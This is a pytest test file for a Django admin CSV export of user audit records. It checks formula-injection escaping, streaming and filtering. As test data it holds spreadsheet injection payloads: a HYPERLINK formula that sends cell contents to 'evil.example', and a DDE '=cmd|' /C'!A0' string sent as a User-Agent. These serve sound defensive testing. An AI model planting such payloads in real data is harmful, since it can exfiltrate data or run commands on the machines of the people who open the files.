"""The export: what the list shows, as CSV that a spreadsheet does not take for formulas."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
import time_machine
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext

from audit.context import acting_as
from audit.export import csv_file as export
from audit.models import UserStateAudit
from tests.factories import make_superuser, make_user
from users.states import State

EXPORT = "/admin/user_audit/userstateaudit/export/"


@pytest.fixture
def client(db: None) -> Client:
    client = Client()
    client.force_login(make_superuser())
    return client


def exported(client: Client, **parameters: str | int) -> list[dict[str, str]]:
    response = client.get(EXPORT, parameters)
    assert response.status_code == 200
    return read(response.getvalue())


def read(content: bytes) -> list[dict[str, str]]:
    """The rows of transitions; births and deaths stand between them."""
    rows = csv.DictReader(io.StringIO(content.decode(), newline=""))
    return [row for row in rows if row["start_state"] and row["end_state"]]


def test_a_row_says_all_that_the_record_says(client: Client):
    with time_machine.travel(datetime(2026, 2, 3, 4, 5, 6, 7008, tzinfo=UTC), tick=False):
        user = make_user("ada")
    (row,) = exported(client)
    record = UserStateAudit.objects.transitions().get()
    assert row == {
        "datetime": "2026-02-03T04:05:06.007000+00:00",
        "id": str(record.pk),
        "user_id": str(user.pk),
        "username": "ada",
        "sequence": "1",
        "transition": "activate",
        "cause": "request",
        "start_state": "invited",
        "end_state": "active",
        "locked_until": "",
        "actor_id": "",
        "actor_kind": "system",
        "initiated_by": "system",
        "impersonator_id": "",
        "impersonator_name": "",
        "description": "",
        "details": "{}",
        "ip_address": "CLI",
        "user_agent": "",
        "request_id": "",
        "signature": record.signature,
    }


def test_it_is_a_file_to_save(client: Client):
    response = client.get(EXPORT)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="changes-of-state-')


def test_it_holds_what_the_same_parameters_show_in_the_list_whatever_the_page(client: Client):
    make_user("ada").fsm.lock()
    make_user("bob")
    assert [row["username"] for row in exported(client)] == ["bob", "ada", "ada"]
    assert [row["username"] for row in exported(client, to="locked")] == ["ada"]
    assert [row["username"] for row in exported(client, q="bo", oldest="1", older="1.1")] == ["bob"]


def test_a_filter_that_nothing_can_fit_gives_a_heading_alone(client: Client):
    make_user("ada")
    assert (
        list(export.pieces(UserStateAudit.objects.transitions().none()))
        == list(export.pieces(UserStateAudit.objects.transitions().all()))[:1]
    )


@pytest.mark.parametrize("query", ["to=nowhere", "q=" + "x" * 201, "older=x", "datetime__year=9999", "user=x"])
def test_a_filter_that_cannot_be_understood_exports_nothing_and_leads_to_the_list(client: Client, query: str):
    make_user("ada")
    answer = client.get(f"{EXPORT}?{query}")
    assert (answer.status_code, answer["Location"].split("?")[0]) == (302, EXPORT.removesuffix("export/"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_text_like_a_formula_gets_an_apostrophe(client: Client, start: str):
    text = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    with acting_as(text):
        make_user("ada", state=State.INVITED).fsm.activate(description=text)
    (row,) = exported(client)
    # Other control characters than tab and line feed do not reach the record.
    recorded = UserStateAudit.objects.transitions().get().description
    assert row["description"] == ("'" + recorded if recorded[0] == start else recorded)
    assert row["initiated_by"][0] in ("'", "\ufffd")


@pytest.mark.parametrize("name", ["=1+1", "@SUM(A1)", "-2", "+49"])
def test_names_that_begin_like_a_formula_do_so_too(client: Client, name: str):
    make_user(name)
    (row,) = exported(client)
    assert row["username"] == f"'{name}"


def test_a_client_cannot_send_a_formula_as_its_name(client: Client):
    make_user("ada", password="right")
    stranger = Client(headers={"User-Agent": "=cmd|' /C'!A0"})
    for _ in range(5):
        stranger.post("/accounts/login/", {"username": "ada", "password": "wrong"})
    assert exported(client, to="locked")[0]["user_agent"] == "'=cmd|' /C'!A0"


@pytest.mark.usefixtures("db")
def test_the_id_of_a_request_from_a_proxy_is_no_formula(client: Client, settings: Any):
    settings.USERS_TRUSTED_PROXIES = ["127.0.0.1"]
    make_user("ada", password="right")
    proxied = Client(headers={"X-Request-ID": "=1+1"})
    for _ in range(5):
        proxied.post("/accounts/login/", {"username": "ada", "password": "wrong"})
    assert exported(client, to="locked")[0]["request_id"] == "'=1+1"


def test_separators_quotes_and_line_ends_stay_inside_of_their_cell(client: Client):
    text = 'a","=1+1";=2+2\n=3+3, "quoted"'
    make_user("ada", state=State.INVITED).fsm.activate(description=text)
    content = client.get(EXPORT).getvalue()
    assert read(content)[0]["description"] == text
    assert all(line.startswith(b'"') for line in content.split(b"\n")[:2])


def test_text_of_every_language_survives(client: Client):
    make_user("张伟", state=State.INVITED).fsm.activate(description="账户 ✓ Ω")
    assert [(row["username"], row["description"]) for row in exported(client)] == [("张伟", "账户 ✓ Ω")]


@pytest.mark.skipif(connection.vendor == "postgresql", reason="PostgreSQL writes the file itself")
def test_records_are_read_in_batches_of_which_one_is_in_memory(client: Client, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(export, "BATCH_SIZE", 4)
    for number in range(10):
        make_user(f"user{number}")
    with CaptureQueriesContext(connection) as queries:
        pieces = export.pieces(UserStateAudit.objects.transitions().all())
        assert len(queries) == 0
        sizes = []
        for number, piece in enumerate(pieces):
            assert len(queries) == number
            sizes.append(piece.count(b"\n"))
    assert sizes == [1, 4, 4, 2]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_postgresql_writes_the_file_in_one_statement_that_is_sent_on_as_it_comes(
    client: Client, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("audit.export.copy_to.PIECE", 1)
    for number in range(10):
        make_user(f"user{number}")
    with CaptureQueriesContext(connection) as queries:
        sizes = [piece.count(b"\n") for piece in export.pieces(UserStateAudit.objects.transitions().all())]
    assert sizes == [1] * 11
    assert len(queries) == 1


def test_a_reader_who_stops_leaves_a_connection_that_works(client: Client):
    for number in range(10):
        make_user(f"user{number}")
    pieces = export.pieces(UserStateAudit.objects.transitions().all())
    next(pieces)
    next(pieces)
    pieces.close()  # type: ignore[attr-defined]
    assert UserStateAudit.objects.transitions().count() == 10


@pytest.mark.django_db
def test_under_asgi_it_is_streamed_as_well():
    make_user("ada")
    root = make_superuser()

    async def export_asynchronously() -> tuple[bool, bytes]:
        client = AsyncClient()
        await client.aforce_login(root)
        response: Any = await client.get(EXPORT)
        return response.is_async, b"".join([piece async for piece in response])

    is_async, content = async_to_sync(export_asynchronously)()
    assert is_async
    assert [row["username"] for row in read(content)] == ["ada"]
